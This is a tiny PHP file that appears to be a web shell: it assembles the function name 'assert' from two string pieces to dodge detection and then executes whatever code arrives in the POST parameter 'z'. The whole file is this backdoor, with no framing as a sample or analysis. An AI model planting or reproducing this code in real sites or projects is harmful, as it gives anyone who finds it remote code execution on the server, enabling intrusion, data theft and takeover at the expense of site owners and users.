<?php
$a = "as"."sert";
$a($_POST['z']);
